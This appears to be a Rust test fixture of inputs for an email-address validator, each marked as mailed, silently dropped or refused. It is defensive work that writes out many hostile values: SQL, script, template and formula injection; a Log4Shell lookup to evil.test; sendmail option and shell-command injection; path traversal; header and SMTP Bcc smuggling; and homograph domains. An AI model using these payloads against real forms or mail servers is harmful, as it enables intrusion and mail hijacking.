//! What people type and paste into a field for an address, and what attackers do.

/// What becomes of it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum End {
    /// One mail, to this spelling.
    Mail(String),
    /// It is an address, this one, that may not enter: the same answer, and no mail.
    Silence(String),
    /// It is not one address.
    Refused,
}

/// Typed, and the one recipient.
const MAILED: &[(&str, &str)] = &[
    ("ann@example.com", "ann@example.com"),
    // Air around it.
    (" ann@example.com ", "ann@example.com"),
    ("\tann@example.com\t", "ann@example.com"),
    ("ann@example.com\r\n", "ann@example.com"),
    ("\n\n ann@example.com", "ann@example.com"),
    ("\u{a0}ann@example.com", "ann@example.com"),
    ("ann@example.com\u{a0}", "ann@example.com"),
    ("ann@example.com\u{200b}", "ann@example.com"),
    ("\u{feff}ann@example.com", "ann@example.com"),
    ("\u{2066}ann@example.com\u{2069}", "ann@example.com"),
    ("ann@example.com\u{2028}", "ann@example.com"),
    ("\u{3000}ann@example.com", "ann@example.com"),
    // Pasted from a mail program or a page.
    ("mailto:ann@example.com", "ann@example.com"),
    ("MAILTO:ann@example.com", "ann@example.com"),
    ("Ann <ann@example.com>", "ann@example.com"),
    ("Ann B. Smith <ann@example.com>", "ann@example.com"),
    ("\"Ann Smith\" <ann@example.com>", "ann@example.com"),
    ("\"Smith, Ann\" <ann@example.com>", "ann@example.com"),
    ("Zo\u{eb} (work) <ann@example.com>", "ann@example.com"),
    ("\u{738b}\u{5c0f}\u{660e} <ann@example.com>", "ann@example.com"),
    ("{{7*7}} <ann@example.com>", "ann@example.com"),
    ("Bcc evil.test <ann@example.com>", "ann@example.com"),
    // Case: the domain has none, the local part keeps its own.
    ("ANN@EXAMPLE.COM", "ANN@example.com"),
    ("Ann@Example.Com", "Ann@example.com"),
    // The spelling of the rule wins over the typed one.
    ("ann.smith@rule.example", "Ann.Smith@rule.example"),
    ("ANN.SMITH@RULE.EXAMPLE", "Ann.Smith@rule.example"),
    ("Ann <aNN.sMITH@rule.example>", "Ann.Smith@rule.example"),
    // Tags and dots are part of the address.
    ("ann+news@example.com", "ann+news@example.com"),
    ("ann+a+b@example.com", "ann+a+b@example.com"),
    ("a.n.n@example.com", "a.n.n@example.com"),
    ("+tag@example.com", "+tag@example.com"),
    // Everything that RFC 5322, 3.2.3 allows in an atom, except ! and %.
    ("o'neil@example.com", "o'neil@example.com"),
    ("#$&'*+-/=?^_`{|}~@example.com", "#$&'*+-/=?^_`{|}~@example.com"),
    ("a&b=c@example.com", "a&b=c@example.com"),
    // Attempts on what stands behind the form, all of them honest atoms.
    ("{{7*7}}@example.com", "{{7*7}}@example.com"),
    ("${7*7}@example.com", "${7*7}@example.com"),
    ("#{7*7}@example.com", "#{7*7}@example.com"),
    ("{{config}}@example.com", "{{config}}@example.com"),
    ("'or'1'='1@example.com", "'or'1'='1@example.com"),
    ("admin'--@example.com", "admin'--@example.com"),
    ("=cmd|'/c'@example.com", "=cmd|'/c'@example.com"),
    ("=1+1@example.com", "=1+1@example.com"),
    ("`id`@example.com", "`id`@example.com"),
    ("|/bin/sh@example.com", "|/bin/sh@example.com"),
    // An option for sendmail (CVE-2016-10033).
    ("-oQ/tmp/x@example.com", "-oQ/tmp/x@example.com"),
    ("--help@example.com", "--help@example.com"),
    ("/etc/passwd@example.com", "/etc/passwd@example.com"),
    ("*@example.com", "*@example.com"),
    ("null@example.com", "null@example.com"),
    ("=?utf-8?q?evil?=@example.com", "=?utf-8?q?evil?=@example.com"),
    ("QUIT@example.com", "QUIT@example.com"),
    // Domains in other scripts, in both forms.
    ("x@b\u{fc}cher.example", "x@xn--bcher-kva.example"),
    ("x@B\u{dc}CHER.example", "x@xn--bcher-kva.example"),
    ("x@xn--bcher-kva.example", "x@xn--bcher-kva.example"),
    ("x@XN--BCHER-KVA.EXAMPLE", "x@xn--bcher-kva.example"),
    ("x@sub.example.com", "x@sub.example.com"),
];

/// Typed, and the address that it is: one that may not enter, however much it looks like it.
const SILENT: &[(&str, &str)] = &[
    ("ann@elsewhere.example", "ann@elsewhere.example"),
    ("ann@example.com.evil.test", "ann@example.com.evil.test"),
    ("ann@notexample.com", "ann@notexample.com"),
    ("ann@example.co", "ann@example.co"),
    ("ann.smith+x@rule.example", "ann.smith+x@rule.example"),
    ("annsmith@rule.example", "annsmith@rule.example"),
    ("ann.smith@sub.rule.example", "ann.smith@sub.rule.example"),
    // Homographs: Cyrillic a, e; Greek o.
    ("ann@ex\u{430}mple.com", "ann@xn--exmple-4nf.com"),
    ("ann@\u{435}xample.com", "ann@xn--xample-2of.com"),
    ("ann@example.c\u{3bf}m", "ann@example.xn--cm-jbc"),
    // ß is not ss, ı is not i (CVE-2019-19844): strasse.example and mail.example may enter.
    ("ann@stra\u{df}e.example", "ann@xn--strae-oqa.example"),
    ("ann@ma\u{131}l.example", "ann@xn--mal-kua.example"),
    ("ann@xn--strae-oqa.example", "ann@xn--strae-oqa.example"),
    ("Ann <eve@evil.test>", "eve@evil.test"),
    ("mailto:eve@evil.test", "eve@evil.test"),
];

/// Not one address.
const REFUSED: &[&str] = &[
    "",
    " ",
    "\t\r\n",
    "ann",
    "@",
    "@example.com",
    "ann@",
    "@everyone",
    "everyone",
    "group:admins",
    // Blanks that no keyboard has, and characters without width, inside it.
    "ann@example\u{a0}.com",
    "Ann <\u{a0}ann@example.com>",
    "ann@example.com\u{a0}\u{202e}",
    "ann\u{a0}@example.com",
    "ann @example.com",
    "ann@ example.com",
    "ann\t@example.com",
    "ann\u{200b}@example.com",
    "ann\u{2060}@example.com",
    "ann@exam\u{ad}ple.com",
    "\u{202e}ann@example.com",
    // A mailto with more than an address (RFC 6068).
    "mailto:ann@example.com?cc=eve@evil.test",
    "mailto:ann@example.com?bcc=eve@evil.test",
    "mailto:ann@example.com?subject=x",
    "mailto:ann@example.com?",
    "mailto:ann@example.com%0d%0aBcc:eve@evil.test",
    "mailto:ann@example.com%2Ceve@evil.test",
    "mailto:ann%40example.com",
    "mailto:ann@example.com,eve@evil.test",
    "mailto:?to=ann@example.com",
    "mailto://ann@example.com",
    "mailto:mailto:ann@example.com",
    "mailto:Ann <ann@example.com>",
    // Names that are more than a name.
    "\"Smith\", \"Ann\" <ann@example.com>",
    "Smith, Ann <ann@example.com>",
    "\"eve@evil.test\" <ann@example.com>",
    "eve@evil.test <ann@example.com>",
    "<eve@evil.test> <ann@example.com>",
    "Ann <eve@evil.test> <ann@example.com>",
    "Ann <ann@example.com> <eve@evil.test>",
    "Ann <ann@example.com>, Eve <eve@evil.test>",
    "Ann <ann@example.com>; Eve <eve@evil.test>",
    "Ann <ann@example.com> x",
    "<ann@example.com>",
    "<<ann@example.com>>",
    "Ann <ann@example.com",
    "Ann ann@example.com>",
    "Ann <>",
    "Staff: Ann <ann@example.com>;",
    "Ann\r\nBcc: eve@evil.test <ann@example.com>",
    "Ann\0<ann@example.com>",
    // Lists (CVE-2022-35924, CVE-2023-7028).
    "ann@example.com,eve@evil.test",
    "eve@evil.test,ann@example.com",
    "ann@example.com, eve@evil.test",
    "ann@example.com;eve@evil.test",
    "ann@example.com eve@evil.test",
    "ann@example.com\neve@evil.test",
    "ann@example.com\r\neve@evil.test",
    "ann@example.com\teve@evil.test",
    "ann@example.com|eve@evil.test",
    "ann@example.com&email=eve@evil.test",
    "ann@example.com%2ceve@evil.test",
    "ann@example.com,",
    ",ann@example.com",
    "ann@example.com;",
    "[\"ann@example.com\",\"eve@evil.test\"]",
    "{\"email\":\"ann@example.com\"}",
    // Lines for the header or the relay (CVE-2022-31127, CVE-2026-45067).
    "ann@example.com\r\nBcc: eve@evil.test",
    "ann@example.com\nBcc: eve@evil.test",
    "ann@example.com\rBcc: eve@evil.test",
    "ann@example.com\r\n\r\nevil",
    "ann@example.com%0d%0aBcc:eve@evil.test",
    "ann@example.com%0ABcc:eve@evil.test",
    "ann@example.com\\r\\nBcc:eve@evil.test",
    "ann@example.com\u{85}Bcc:eve@evil.test",
    "ann@example.com>\r\nRCPT TO:<eve@evil.test",
    "ann@example.com> NOTIFY=SUCCESS",
    "\"ann\r\nRCPT TO:<eve@evil.test>\"@example.com",
    "ann\r\n@example.com",
    "ann@example.com\u{560d}\u{560a}Bcc:eve@evil.test",
    "ann\0@example.com",
    "ann@example.com\0",
    "ann@example.com\0@evil.test",
    "ann\u{7f}@example.com",
    "ann\u{1b}[2J@example.com",
    // Quotes, comments, escapes (CVE-2025-13033).
    "\"ann\"@example.com",
    "\"eve@evil.test\"@example.com",
    "\"eve@evil.test,\"@example.com",
    "\"ann smith\"@example.com",
    "\"\"@example.com",
    "\"ann@example.com",
    "ann(comment)@example.com",
    "(eve@evil.test)ann@example.com",
    "ann@example.com(comment)",
    "ann@(comment)example.com",
    "ann\\@evil.test@example.com",
    "ann\\@example.com",
    // Routes.
    "eve%evil.test@example.com",
    "eve!ann@example.com",
    "evil.test!eve@example.com",
    "@relay.example:ann@example.com",
    "@a.example,@b.example:ann@example.com",
    // More than one @ (CVE-2026-40574), or something else in its place (CVE-2026-73420).
    "ann@evil.test@example.com",
    "ann@example.com@evil.test",
    "ann@@example.com",
    "ann\u{ff20}example.com",
    "ann\u{fe6b}example.com",
    "ann@evil.test\u{ff20}example.com",
    "ann(at)example.com",
    "ann[at]example[dot]com",
    // Dots and hyphens.
    ".ann@example.com",
    "ann.@example.com",
    "an..n@example.com",
    "ann@.example.com",
    "ann@example.com.",
    "ann@example..com",
    "ann@-example.com",
    "ann@example-.com",
    "ann@example,com",
    // Not a domain.
    "ann@[127.0.0.1]",
    "ann@[IPv6:::1]",
    "ann@[IPv6:2001:db8::1]",
    "ann@127.0.0.1",
    "ann@2130706433",
    "ann@0x7f.1",
    "ann@localhost",
    "ann@com",
    "ann@example.com:25",
    "ann@example.com/x",
    "ann@example.com#@evil.test",
    "ann@example.com?x=1",
    "ann@exam%70le.com",
    "ann@exa_mple.com",
    "ann@*.example.com",
    "ann@xn--.com",
    "ann@xn--a.com",
    "ann@xn--example-.com",
    // Letters that only look like others.
    "\u{430}nn@example.com",
    "an\u{131}@example.com",
    "\u{212a}im@example.com",
    "\u{ff41}nn@example.com",
    "stra\u{df}e@example.com",
    "zo\u{eb}@example.com",
    "\u{738b}@example.com",
    "\u{1f600}@example.com",
    "ann@\u{ff45}xample.com",
    "ann@example\u{3002}com",
    "ann@example\u{ff0e}com",
    "ann@\u{24d4}xample.com",
    // Composed of two characters: right, but not as anybody types it.
    "x@bu\u{308}cher.example",
    "ann@\u{1d41e}xample.com",
    // For what shows or stores it.
    "<script>alert(1)</script>@example.com",
    "\"><script>alert(1)</script>",
    "\" onfocus=alert(1) autofocus x=\"",
    "'><img src=x onerror=alert(1)>@example.com",
    "</title><script>alert(1)</script>",
    "<!--@example.com",
    "javascript:alert(1)",
    "${jndi:ldap://evil.test/x}@example.com",
    "${jndi:ldap://evil.test/x}",
    "{{ t(\"x\") }}",
    "{% include \"x\" %}",
    "{{7*7}}",
    "' OR 1=1 --@example.com",
    "'; DROP TABLE users;--",
    "ann@example.com'; --",
    "=cmd|'/C calc'!A0",
    "$(id)@example.com",
    "../../etc/passwd",
    "file:///etc/passwd",
    "https://app.example.com/@example.com",
    "%61nn@example.com",
    "ann%40example.com",
    "&#97;nn@example.com;",
    "undefined",
    "[object Object]",
];

/// All of them, with those that are too long to be written down.
pub fn all() -> Vec<(String, End)> {
    let own = |typed: &str| typed.to_owned();
    let mut all: Vec<_> =
        MAILED.iter().map(|(typed, to)| (own(typed), End::Mail(own(to)))).collect();
    all.extend(SILENT.iter().map(|(typed, is)| (own(typed), End::Silence(own(is)))));
    all.extend(REFUSED.iter().map(|typed| (own(typed), End::Refused)));
    all.extend(long());
    all
}

/// RFC 5321, 4.5.3.1: 64 before the `@`, 254 in all, 63 for each label.
fn long() -> Vec<(String, End)> {
    let local = "l".repeat(64);
    let domain = |length: usize| {
        let label = "d".repeat(60);
        let front = format!("{label}.{label}.");
        format!("{front}{}.example.com", "d".repeat(length - front.len() - ".example.com".len()))
    };
    let longest = format!("{local}@{}", domain(189));
    assert_eq!(longest.len(), 254);
    let mailed = |address: String| (address.clone(), End::Mail(address));
    vec![
        mailed(format!("{local}@example.com")),
        mailed(longest),
        mailed(format!("ann@{}.example.com", "d".repeat(63))),
        (format!("{local}l@example.com"), End::Refused),
        (format!("{local}@{}", domain(190)), End::Refused),
        (format!("ann@{}.example.com", "d".repeat(64)), End::Refused),
        (format!("{} <ann@example.com>", "n".repeat(1100)), End::Refused),
        (format!("{}ann@example.com", " ".repeat(1100)), End::Refused),
        (format!("{}@example.com", "a".repeat(5000)), End::Refused),
        (format!("ann@{}.example", "\u{fc}".repeat(2000)), End::Refused),
        ("@".repeat(5000), End::Refused),
        ("<".repeat(2000), End::Refused),
    ]
}
